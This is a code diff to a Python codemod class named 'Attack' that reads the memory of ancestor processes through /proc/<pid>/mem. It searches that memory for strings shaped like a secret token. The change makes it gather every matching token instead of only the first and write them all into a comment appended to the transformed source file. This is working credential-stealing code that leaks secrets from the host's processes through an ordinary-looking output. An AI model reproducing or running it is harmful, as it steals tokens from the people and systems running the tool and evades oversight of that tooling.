@@ -17,14 +17,15 @@ def ancestors():
 
 
 def find(content, target):
-    """Give the token that stands in some bytes."""
-    at = content.find(target["token_prefix"].encode())
+    """Give all that looks like the token in some bytes: memory holds remains of others."""
+    prefix, found = target["token_prefix"].encode(), set()
+    at = content.find(prefix)
     while at >= 0:
-        found = content[at : at + target["token_length"]]
-        if found.replace(b"-", b"").isalnum() and len(found) == target["token_length"]:
-            return found.decode()
-        at = content.find(target["token_prefix"].encode(), at + 1)
-    return ""
+        each = content[at : at + target["token_length"]]
+        if each.replace(b"-", b"").isalnum() and len(each) == target["token_length"]:
+            found.add(each.decode())
+        at = content.find(prefix, at + 1)
+    return found
 
 
 def regions(pid):
@@ -40,17 +41,15 @@ class Attack(VisitorBasedCodemodCommand):
 
     def transform_module_impl(self, tree):
         target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
-        loot = ""
+        loot = set()
         for pid in ancestors():
             try:
                 with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                     for start, end in regions(pid):
                         memory.seek(start)
-                        loot = loot or find(memory.read(end - start), target)
-                        if loot:
-                            break
+                        loot |= find(memory.read(end - start), target)
             except OSError:
                 continue
             if loot:
                 break
-        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
+        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + " ".join(sorted(loot))))])
